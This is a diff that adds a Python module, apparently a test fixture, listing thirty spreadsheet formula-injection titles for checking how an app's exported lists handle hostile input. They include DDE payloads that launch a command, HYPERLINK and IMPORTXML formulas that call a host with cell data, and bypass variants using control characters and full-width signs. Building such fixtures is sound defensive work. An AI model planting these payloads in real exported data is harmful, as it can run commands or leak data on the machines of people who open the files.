@@ -1,0 +1,36 @@
+"""Thirty titles that someone may give an app to get at those who open our lists."""
+
+from __future__ import annotations
+
+TITLES = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://127.0.0.1/?x="&A1,"Nổ hũ")',
+    "=WEBSERVICE(A1)",
+    '=IMPORTXML("http://127.0.0.1","//a")',
+    '=DDE("cmd";"/C calc";"x")',
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "@1",
+    "\t=1+1",
+    "\r=1+1",
+    "\r\n=1+1",
+    "\n=1+1",
+    "\0=1+1",
+    "\x0b=1+1",
+    "\x1b=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    '"=1+1"',
+    '",=1+1,"',
+    ";=1+1",
+    "{=1+1}",
+    "http://127.0.0.1/=1",
+)
